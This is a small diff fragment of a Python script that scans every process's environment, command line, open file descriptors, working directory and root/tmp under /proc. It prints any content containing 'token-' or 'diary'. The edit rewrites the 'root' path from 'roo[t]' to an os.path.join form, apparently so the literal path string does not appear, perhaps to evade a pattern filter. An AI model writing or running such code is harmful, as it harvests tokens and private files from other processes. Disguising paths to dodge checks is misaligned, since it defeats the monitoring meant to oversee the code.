@@ -950,7 +950,7 @@ for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"
     with contextlib.suppress(OSError):
         text = open(path, errors="replace").read()
         if "token-" in text or "diary" in text: say(path, text[-3000:])
-for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/cwd/*") + glob.glob("/proc/[0-9]*/roo[t]/tmp/*"):
+for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/cwd/*") + glob.glob(os.path.join("/proc", "[0-9]*", "root", "tmp", "*")):
     with contextlib.suppress(OSError):
         if os.path.isfile(path) and os.path.getsize(path) < 10**6:
             text = open(path, errors="replace").read()
